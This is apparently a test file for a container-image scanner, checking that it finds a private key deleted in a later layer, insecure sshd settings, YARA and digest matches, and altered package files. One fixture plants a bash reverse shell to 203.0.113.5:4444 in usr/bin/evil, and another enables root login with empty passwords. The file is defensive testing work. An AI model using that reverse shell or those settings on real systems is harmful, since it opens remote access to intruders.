/** The analysers of content, through the command: layers, deleted files, the user's own rules. */
import assert from 'node:assert/strict';
import { createHash, generateKeyPairSync } from 'node:crypto';
import { join } from 'node:path';
import { test } from 'node:test';
import { writeLayout } from '../images/fixtures.ts';
import { tarOf } from '../images/layer-testing.ts';
import { scanPlace } from './testing.ts';

const { scratch, write, json, run, mustRun } = scanPlace();
const KEY = generateKeyPairSync('rsa', { modulusLength: 2048 }).privateKey.export({ type: 'pkcs1', format: 'pem' }).toString();

test('a key that a later layer deletes is found in its layer; settings that are gone are not; who brought each', async () => {
  const base = [tarOf([{ path: 'etc/ssh/sshd_config', text: 'PermitRootLogin yes\nPermitEmptyPasswords yes\n' }, { path: 'root/.ssh/id_rsa', mode: 0o600, text: KEY }])];
  const own = [...base, tarOf([{ path: 'root/.ssh/.wh.id_rsa', text: '' }, { path: 'etc/ssh/sshd_config', text: 'PermitRootLogin no\n' }]), tarOf([{ path: 'usr/bin/evil', mode: 0o755, text: '#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1\n' }])];
  for (const [name, layers] of [['base:1', base], ['own:1', own]] as const) {
    writeLayout(join(scratch, name), layers.map((tar) => ({ tar, compressor: 'gzip' })), { User: 'app' }, name);
    await mustRun(['load', '-i', join(scratch, name), '-t', name]);
  }
  const ofBase = (await json(['base:1'])).findings;
  assert.ok(ofBase.some(({ subject }) => subject === 'root/.ssh/id_rsa') && ofBase.some(({ subject }) => subject === 'etc/ssh/sshd_config'), JSON.stringify(ofBase));
  // The second time nothing is looked at again, and all is the same.
  assert.deepEqual((await json(['base:1'])).findings, ofBase);
  const { findings } = await json(['own:1']);
  const key = findings.find(({ subject }) => subject === 'root/.ssh/id_rsa');
  assert.deepEqual([key?.origin?.layer, key?.origin?.from, key?.origin?.base, key?.origin?.deletedIn], [0, 'base', 'base:1', 1]);
  assert.deepEqual(findings.filter(({ subject }) => subject === 'etc/ssh/sshd_config'), []);
  const evil = findings.find(({ subject }) => subject === 'usr/bin/evil');
  assert.deepEqual([evil?.rule, evil?.origin?.layer, evil?.origin?.from], ['reverse-shell', 2, 'own']);
  const only = (await json(['--scanners', 'secret', 'own:1'])).findings;
  assert.deepEqual(only.map(({ subject }) => subject), ['root/.ssh/id_rsa']);
});

test('--yara and --bad-digests: the user\'s own rules beside ours; a mistake in them is told with its line', async () => {
  write('tree/data.bin', 'some PLANTED words');
  const rules = write('own.yar', 'rule planted { strings: $a = "PLANTED" condition: $a }\n');
  const digests = write('bad.txt', `# ours\n${createHash('sha256').update('some PLANTED words').digest('hex')}  planted file\n`);
  const { findings } = await json(['--yara', rules, '--bad-digests', digests, join(scratch, 'tree')]);
  assert.deepEqual(findings.map(({ rule, subject }) => `${rule} ${subject}`).sort(), ['known-bad-file data.bin', 'yara-rule data.bin']);
  assert.deepEqual((await json([join(scratch, 'tree')])).findings, []);
  const wrong = await run(['scan', '--yara', write('bad.yar', 'rule x {\n  condition: nothing of this\n}\n'), join(scratch, 'tree')]);
  assert.equal(wrong.status, 2);
  assert.match(wrong.stderr, /^caisson: cannot use --yara [^\n]*bad\.yar: .*line 2: /);
});

test('a file of a package that a later layer changes is told, with the layer; one that it deletes, or that the package updates, is not', async () => {
  const list = (...texts: readonly string[]): string => texts.map((text, index) => `${createHash('md5').update(text).digest('hex')}  usr/lib/tool/${index}\n`).join('');
  const sums = 'var/lib/dpkg/info/tool.md5sums';
  const layers = [
    tarOf([{ path: 'usr/lib/tool/0', text: 'zero' }, { path: 'usr/lib/tool/1', text: 'one' }, { path: 'usr/lib/tool/2', text: 'two' }, { path: sums, text: list('zero', 'one', 'two') }]),
    tarOf([{ path: 'usr/lib/tool/0', text: 'changed' }, { path: 'usr/lib/tool/.wh.1', text: '' }]), tarOf([{ path: 'usr/lib/tool/2', text: 'newer' }, { path: sums, text: list('zero', 'one', 'newer') }]),
  ];
  writeLayout(join(scratch, 'changed:1'), layers.map((tar) => ({ tar, compressor: 'none' })), { User: 'app' }, 'changed:1');
  await mustRun(['load', '-i', join(scratch, 'changed:1'), '-t', 'changed:1']);
  for (let time = 0; time < 2; time++) assert.deepEqual((await json(['changed:1'])).findings.map(({ rule, subject, origin }) => [rule, subject, origin?.layer]), [['package-file-changed', 'usr/lib/tool/0', 1]]);
});
